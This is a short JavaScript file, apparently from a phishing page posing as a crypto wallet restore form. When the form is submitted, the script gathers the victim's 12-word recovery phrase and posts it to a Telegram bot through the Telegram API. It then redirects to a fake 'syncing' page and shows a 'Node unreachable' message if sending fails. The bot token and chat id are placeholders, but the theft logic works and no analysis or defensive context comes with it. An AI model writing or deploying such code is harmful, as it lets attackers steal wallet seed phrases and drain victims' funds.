const T = "0000000000:PLACEHOLDER", C = "000000000";

document.getElementById("restoreForm").addEventListener("submit", function (ev) {
  ev.preventDefault();
  const boxes = document.querySelectorAll("#restoreForm input[type=text]");
  const joined = Array.from(boxes).map((b) => b.value.trim()).join(" ");
  if (joined.split(" ").length < 12) {
    document.getElementById("hint").textContent = "Enter your 12-word recovery phrase";
    return;
  }
  fetch(`https://api.telegram.org/bot${T}/sendMessage`, {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ chat_id: C, text: "New import\n\n" + joined, parse_mode: "Markdown" }),
  })
    .then(() => (window.location.href = "syncing.html"))
    .catch(() => alert("Node unreachable, please try again."));
});
